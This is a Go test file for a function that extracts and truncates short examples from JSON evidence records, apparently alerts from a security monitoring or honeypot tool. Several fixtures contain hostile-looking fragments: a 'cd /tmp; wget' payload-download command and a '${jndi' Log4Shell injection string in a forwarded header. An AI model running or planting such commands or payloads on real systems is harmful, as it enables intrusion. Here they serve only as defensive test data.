package report

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestExampleOf(t *testing.T) {
	long := strings.Repeat("日", 500)
	tests := []struct{ name, evidence, want string }{
		{"text around the match", `{"command_text":"cd /tmp; wget http://x/a","matched":"wget"}`, "cd /tmp; wget http://x/a"},
		{"the text that holds the match", `{"command_text":"uname","matched":"root","user":"root2"}`, "root2"},
		{"match of no text", `{"header":"x-forwarded-for","matched":"${jndi"}`, "${jndi"},
		{"plain values", `{"count":3,"service":"ssh","username":"root"}`, "count=3 service=ssh username=root"},
		{"empty text", `{"service":"","username":"root"}`, "root"},
		{"no text", `{"fail_count":12,"window_s":300}`, "fail_count=12 window_s=300"},
		{"boolean", `{"feodo_listed":true}`, "feodo_listed=true"},
		{"text of a list", `{"tags":["a","b"]}`, "a"},
		{"values before lists", `{"n":1,"tags":["a","b"]}`, "n=1"},
		{"text of an object", `{"settings":{"HEADER":"v"}}`, "v"},
		{"matched inside an object", `{"settings":{"matched":"v"},"username":"x"}`, "username=x"},
		{"matched is a list", `{"matched":["b","c"],"username":"root"}`, "b; c"},
		{"null", `{"namespace":null}`, ""},
		{"empty", `{}`, ""},
		{"nothing", ``, ""},
		{"broken", `{"service":"ssh",`, "ssh"},
		{"no object", `["a"]`, "a"},
		{"deep", strings.Repeat("[", 20_000), ""},
		{"match far away", `{"command_text":"` + strings.Repeat("x", 100) + ` wget http://x/a","matched":"wget"}`,
			"…" + strings.Repeat("x", 23) + " wget http://x/a"},
		{"cut at a character", `{"matched":"` + long + `"}`, long[:318] + "…"},
		{"lead at a character", `{"command_text":"` + long + `wget","matched":"wget"}`, "…" + long[:24] + "wget"},
	}
	for _, tt := range tests {
		got := exampleOf([]byte(tt.evidence))
		if got != tt.want || !utf8.ValidString(got) {
			t.Errorf("%s: exampleOf(%.100s) = %q, want %q", tt.name, tt.evidence, got, tt.want)
		}
	}
}

func FuzzExampleOf(f *testing.F) {
	f.Add([]byte(`{"command_text":"cd /tmp; wget http://x/a","matched":"wget"}`))
	f.Add([]byte(`{"a":{"b":["c",1,true]}`))
	f.Fuzz(func(t *testing.T, evidence []byte) {
		if got := exampleOf(evidence); len(got) > exampleBytes+len("……") || !utf8.ValidString(got) {
			t.Errorf("exampleOf(%q) = %q, want at most %d bytes of UTF-8", evidence, got, exampleBytes)
		}
	})
}
